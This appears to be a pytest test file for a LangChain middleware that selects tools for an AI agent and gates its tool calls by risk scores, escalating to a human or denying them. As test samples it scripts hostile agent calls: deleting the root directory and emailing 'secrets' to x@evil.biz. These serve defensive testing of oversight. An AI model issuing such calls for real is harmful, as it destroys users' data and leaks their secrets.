@@ -1,0 +1,312 @@
+"""Real agent loops (`create_agent` + a scripted chat model) through the selector and the gate."""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Sequence
+from typing import Any
+
+import pytest
+from langchain.agents import create_agent
+from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
+from langgraph.checkpoint.memory import InMemorySaver
+from langgraph.types import Command
+
+from clef_tools import Decider, DecisionRequest, GatePolicy, ReadoutDecider, RequestScores
+from langchain_clef import ToolGateMiddleware, ToolSelectorMiddleware
+
+from .conftest import call, scripted
+
+CFG = {"configurable": {"thread_id": "t1"}}
+
+
+class BrokenDecider(Decider):
+    model_id = "broken"  # type: ignore[assignment]
+
+    def _score(self, requests: Sequence[DecisionRequest]) -> list[RequestScores]:
+        raise RuntimeError("backend crashed")
+
+
+class SlowDecider(Decider):
+    def __init__(self, inner: ReadoutDecider) -> None:
+        self.inner = inner
+
+    @property
+    def model_id(self) -> str:
+        return self.inner.model_id
+
+    def _score(self, requests: Sequence[DecisionRequest]) -> list[RequestScores]:
+        time.sleep(3)
+        return self.inner._score(requests)
+
+
+def _tool_messages(out: dict[str, Any]) -> list[ToolMessage]:
+    return [m for m in out["messages"] if isinstance(m, ToolMessage)]
+
+
+# -- selector ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("threshold", "max_tools", "kept"), [(0.0, None, 3), (0.0, 2, 2), (1.0, None, 0)]
+)
+def test_selector_thresholds(
+    smollm2: ReadoutDecider, toolset: list[Any], threshold: float, max_tools: int | None, kept: int
+) -> None:
+    model = scripted(AIMessage("ok"))
+    selector = ToolSelectorMiddleware(smollm2, threshold=threshold, max_tools=max_tools)
+    create_agent(model, toolset, middleware=[selector]).invoke(
+        {"messages": [HumanMessage("read notes.txt")]}
+    )
+    bound = model.bound[-1] if model.bound else []  # with no tools the agent binds none
+    assert len(bound) == kept
+    if max_tools == 2:  # the two best-scored tools, not the first two listed
+        best = sorted(selector.last_scores, key=selector.last_scores.__getitem__, reverse=True)[:2]
+        assert sorted(model.bound[-1]) == sorted(best)
+
+
+def test_selector_always_include_and_error_policy(
+    smollm2: ReadoutDecider, toolset: list[Any]
+) -> None:
+    model = scripted(AIMessage("ok"))
+    create_agent(
+        model,
+        toolset,
+        middleware=[ToolSelectorMiddleware(smollm2, threshold=1.0, always_include=["read_file"])],
+    ).invoke({"messages": [HumanMessage("hi")]})
+    assert model.bound[-1] == ["read_file"]
+    keep_all = scripted(AIMessage("ok"))
+    create_agent(
+        keep_all, toolset, middleware=[ToolSelectorMiddleware(BrokenDecider(), threshold=1.0)]
+    ).invoke({"messages": [HumanMessage("hi")]})
+    assert len(keep_all.bound[-1]) == 3  # on_error="keep_all": the call goes ahead with every tool
+    with pytest.raises(Exception, match="backend crashed"):
+        create_agent(
+            scripted(AIMessage("ok")),
+            toolset,
+            middleware=[ToolSelectorMiddleware(BrokenDecider(), on_error="raise")],
+        ).invoke({"messages": [HumanMessage("hi")]})
+
+
+def test_selector_chunks_beyond_64_tools(
+    smollm2: ReadoutDecider, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from langchain_core.tools import tool
+
+    def make(i: int) -> Any:
+        @tool(f"tool_{i}")
+        def t(x: str) -> str:
+            """A numbered tool."""
+            return x
+
+        return t
+
+    tools = [make(i) for i in range(70)]
+    sizes: list[list[int]] = []
+    real = smollm2.decide_batch
+    monkeypatch.setattr(
+        smollm2,
+        "decide_batch",
+        lambda reqs: sizes.append([len(r["questions"]) for r in reqs]) or real(reqs),
+    )
+    model = scripted(AIMessage("ok"))
+    create_agent(
+        model, tools, middleware=[ToolSelectorMiddleware(smollm2, threshold=0.0, max_tools=5)]
+    ).invoke({"messages": [HumanMessage("x")]})
+    assert sizes == [[64, 6]] and len(model.bound[-1]) == 5
+
+
+@pytest.mark.embedded
+def test_selector_keeps_the_tool_the_embedded_model_picks(
+    embedded: ReadoutDecider, toolset: list[Any]
+) -> None:
+    model = scripted(AIMessage("ok"))
+    selector = ToolSelectorMiddleware(embedded, threshold=0.0, max_tools=1)
+    create_agent(model, toolset, middleware=[selector]).invoke(
+        {"messages": [HumanMessage("Email bob@example.com the meeting notes, please.")]}
+    )
+    assert max(selector.last_scores, key=selector.last_scores.__getitem__) == "send_email"
+    assert model.bound[-1] == ["send_email"]
+
+
+# -- gate -------------------------------------------------------------------------------
+
+
+def _gated(decider: Decider, toolset: list[Any], tool_call: AIMessage, **kw: Any) -> Any:
+    return create_agent(
+        scripted(tool_call, AIMessage("done"), AIMessage("done again")),
+        toolset,
+        middleware=[ToolGateMiddleware(decider, **kw)],
+        checkpointer=InMemorySaver(),
+    )
+
+
+def test_gate_allow_band_runs_the_tool(
+    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
+) -> None:
+    out = _gated(
+        smollm2, toolset, call("read_file", {"path": "a.txt"}), escalate_at=1.0, deny_at=1.0
+    ).invoke({"messages": [HumanMessage("read a.txt")]}, CFG)
+    assert executed == [("read_file", {"path": "a.txt"})]
+    audit = _tool_messages(out)[0].response_metadata["clef_gate"]
+    assert (
+        audit["verdict"] == "allow"
+        and audit["escalate_at"] == 1.0
+        and set(audit["probabilities"])
+        == {"destructive", "exfiltration", "credentials", "unauthorised"}
+    )
+
+
+def test_gate_deny_band_blocks_the_tool(
+    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
+) -> None:
+    out = _gated(
+        smollm2, toolset, call("delete_file", {"path": "/"}), escalate_at=0.0, deny_at=0.0
+    ).invoke({"messages": [HumanMessage("tidy up")]}, CFG)
+    assert executed == []
+    msg = _tool_messages(out)[0]
+    assert (
+        msg.status == "error"
+        and "was blocked" in msg.content
+        and msg.artifact["clef_gate"]["verdict"] == "deny"
+    )
+
+
+@pytest.mark.parametrize(
+    ("decision", "ran"),
+    [({"type": "approve"}, True), ({"type": "reject", "message": "no way"}, False)],
+)
+def test_gate_escalate_band_asks_a_human(
+    smollm2: ReadoutDecider,
+    toolset: list[Any],
+    executed: list[Any],
+    decision: dict[str, Any],
+    ran: bool,
+) -> None:
+    agent = _gated(
+        smollm2,
+        toolset,
+        call("send_email", {"to": "x@evil.biz", "body": "secrets"}),
+        escalate_at=0.0,
+        deny_at=1.0,
+    )
+    paused = agent.invoke({"messages": [HumanMessage("summarise my inbox")]}, CFG)
+    (intr,) = paused["__interrupt__"]
+    assert intr.value["action_requests"][0]["name"] == "send_email"
+    assert intr.value["review_configs"][0]["allowed_decisions"] == ["approve", "edit", "reject"]
+    assert executed == []
+    out = agent.invoke(Command(resume={"decisions": [decision]}), CFG)
+    msg = _tool_messages(out)[0]
+    if ran:
+        assert executed == [("send_email", {"to": "x@evil.biz", "body": "secrets"})]
+        assert msg.response_metadata["clef_gate"]["human_approved"] is True
+    else:
+        assert executed == [] and "no way" in msg.content and msg.status == "error"
+
+
+def test_gate_rejudges_an_edited_call(
+    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
+) -> None:
+    # the edited call goes to /tmp/x: with a per-tool policy that always denies deletes,
+    # the edit is judged again and blocked, never run unjudged
+    agent = create_agent(
+        scripted(call("send_email", {"to": "x@evil.biz", "body": "b"}), AIMessage("done")),
+        toolset,
+        middleware=[
+            ToolGateMiddleware(
+                smollm2,
+                escalate_at=0.0,
+                deny_at=1.0,
+                per_tool={"delete_file": GatePolicy(escalate_at=0.0, deny_at=0.0)},
+            )
+        ],
+        checkpointer=InMemorySaver(),
+    )
+    agent.invoke({"messages": [HumanMessage("x")]}, CFG)
+    out = agent.invoke(
+        Command(
+            resume={
+                "decisions": [
+                    {
+                        "type": "edit",
+                        "edited_action": {"name": "delete_file", "args": {"path": "/tmp/x"}},
+                    }
+                ]
+            }
+        ),
+        CFG,
+    )
+    assert executed == []
+    assert _tool_messages(out)[0].artifact["clef_gate"]["verdict"] == "deny"
+
+
+@pytest.mark.parametrize("on_error", ["escalate", "deny"])
+def test_gate_backend_error_never_allows(
+    toolset: list[Any], executed: list[Any], on_error: str
+) -> None:
+    agent = _gated(
+        BrokenDecider(),
+        toolset,
+        call("read_file", {"path": "a"}),
+        escalate_at=1.0,
+        deny_at=1.0,
+        on_error=on_error,
+    )
+    out = agent.invoke({"messages": [HumanMessage("read a")]}, CFG)
+    assert executed == []
+    if on_error == "escalate":
+        assert out["__interrupt__"][0].value["clef_gate"]["error"].startswith("BackendError")
+    else:
+        assert _tool_messages(out)[0].artifact["clef_gate"]["verdict"] == "deny"
+
+
+def test_gate_timeout_never_allows(
+    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
+) -> None:
+    agent = _gated(
+        SlowDecider(smollm2),
+        toolset,
+        call("read_file", {"path": "a"}),
+        escalate_at=1.0,
+        deny_at=1.0,
+        on_error="deny",
+        timeout_s=0.3,
+    )
+    start = time.monotonic()
+    out = agent.invoke({"messages": [HumanMessage("read a")]}, CFG)
+    assert time.monotonic() - start < 2.5
+    assert executed == [] and "timed out" in _tool_messages(out)[0].artifact["clef_gate"]["error"]
+
+
+async def test_gate_async_path(
+    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
+) -> None:
+    agent = _gated(
+        smollm2, toolset, call("delete_file", {"path": "/"}), escalate_at=0.0, deny_at=0.0
+    )
+    out = await agent.ainvoke({"messages": [HumanMessage("tidy up")]}, CFG)
+    assert executed == [] and _tool_messages(out)[0].artifact["clef_gate"]["verdict"] == "deny"
+
+
+@pytest.mark.embedded
+def test_gate_embedded_model_ranks_a_destructive_delete_above_a_read(
+    embedded: ReadoutDecider, toolset: list[Any], executed: list[Any]
+) -> None:
+    risks = {}
+    for name, args in (
+        ("read_file", {"path": "notes.txt"}),
+        ("delete_file", {"path": "/", "recursive": True}),
+    ):
+        out = _gated(embedded, toolset, call(name, args)).invoke(
+            {"messages": [HumanMessage("Show me what's in notes.txt")]},
+            {"configurable": {"thread_id": name}},
+        )
+        if "__interrupt__" in out:
+            audit = out["__interrupt__"][0].value["clef_gate"]
+        else:
+            audit = _tool_messages(out)[0].response_metadata["clef_gate"]
+        assert audit["verdict"] == GatePolicy().band(
+            audit["risk"]
+        )  # the verdict follows the model's own risk
+        risks[name] = audit["probabilities"]["destructive"]
+    assert risks["delete_file"] > risks["read_file"]
